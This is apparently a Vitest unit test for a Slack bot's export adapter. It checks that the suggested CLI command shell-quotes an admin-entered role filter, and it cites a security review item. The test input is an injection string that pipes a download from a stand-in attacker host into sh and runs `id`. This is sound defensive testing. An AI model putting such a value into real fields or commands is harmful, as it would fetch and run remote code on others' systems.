/** The command line suggested for an export too large for Slack (security review I5). */
import { describe, expect, it } from 'vitest';
import { cliCommandFor } from '../../src/adapters/slack/export-upload.js';
import { parseExportFilters } from '../../src/operations/exports/export-filters.js';

describe('cliCommandFor', () => {
  it('quotes what an admin typed for a POSIX shell, so $(...) and backticks stay text', () => {
    const filters = parseExportFilters('requests', { from: '2026-01-01', role: "$(curl evil.example|sh) `id` it's" });
    const command = cliCommandFor('requests', filters);
    expect(command).toContain(`--role '$(curl evil.example|sh) \`id\` it'\\''s'`);
    expect(command).toMatch(/^access-bot export requests --from 2026-01-01\S* /);
  });
});
